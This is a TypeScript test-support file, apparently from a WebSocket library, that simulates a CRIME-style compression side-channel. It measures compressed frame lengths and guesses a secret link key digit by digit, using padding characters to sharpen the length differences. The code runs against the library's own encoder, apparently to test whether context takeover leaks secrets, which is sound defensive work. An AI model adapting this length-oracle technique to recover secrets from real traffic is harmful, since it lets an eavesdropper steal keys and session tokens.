/**
 * A secret is guessed by the lengths of frames, as CRIME guessed cookies in 2012:
 * what repeats something that was said before gets shorter.
 *
 * The server sends the page of its user a link with a key in it. Then it sends
 * back whatever was searched for. Somebody else can make the page search, by a
 * link of their own, and can see how long the frames are, but reads none of them.
 */

import { fromUtf8, NO_BYTES } from '../../src/bytes.ts';
import { type DeflateEngine, TAIL } from '../../src/connection/deflate-engine.ts';
import { encodeFrame } from '../../src/frame/codec.ts';
import type { Speak } from '../../src/versions.ts';

/** How the server sends. */
export interface Sending {
  readonly speak: Speak;
  /** What compresses; without it nothing is compressed. */
  readonly engine?: DeflateEngine;
  /** Whether a message may refer to those before. */
  readonly takesOver?: boolean;
}

/** What everybody knows of the link. */
export const KNOWN = '/me?key=';
export const DIGITS = [...'0123456789'];
/** Characters that are nowhere else: they move the end of the message through the bits of a byte. */
export const PADDINGS = ['~', '~!', '~!;', '~!;^'];

export const privateMessage = (key: string) => `{"user":"ann","link":"${KNOWN}${key}"}`;
export const searchMessage = (text: string) => `{"found":0,"for":"${text}"}`;

/** Bits of the window that our library uses for messages as short as these. */
const BITS = 12;

/** The length of the frame that answers a search, on a new connection: all that the attacker learns. */
export function observe(key: string, search: string, { speak, engine, takesOver = false }: Sending): number {
  const payload = fromUtf8(searchMessage(search));
  const before = takesOver ? fromUtf8(privateMessage(key)) : NO_BYTES;
  const flushed = engine?.deflate(payload, before, BITS);
  const frame = flushed ? { rsv1: true, payload: flushed.subarray(0, -TAIL.length) } : { payload };
  return encodeFrame({ opcode: 'text', ...frame }, { speak }).length;
}

/** One round: what each digit costs, all paddings together, and the digits that cost least. */
export interface Round {
  readonly before: string;
  readonly lengths: readonly number[];
  readonly shortest: readonly string[];
}

/**
 * Guesses a secret digit by digit.
 *
 * @param lengthOf  the length of the frame that answers a search
 * @param most  how many digits it has
 * @returns the rounds; the last one is not decided if the lengths say nothing
 */
export function guess(lengthOf: (search: string) => number, most: number): Round[] {
  const rounds: Round[] = [];
  let known = '';
  while (known.length < most) {
    const lengths = DIGITS.map((digit) =>
      PADDINGS.reduce((sum, padding) => sum + lengthOf(`${KNOWN}${known}${digit}${padding}`), 0),
    );
    const least = Math.min(...lengths);
    const shortest = DIGITS.filter((_, i) => lengths[i] === least);
    rounds.push({ before: known, lengths, shortest });
    const [digit = '', ...others] = shortest;
    if (others.length > 0) break;
    known += digit;
  }
  return rounds;
}

/** What was guessed. */
export function guessed(rounds: readonly Round[]): string {
  return rounds.map(({ shortest }) => (shortest.length === 1 ? shortest[0] : '')).join('');
}
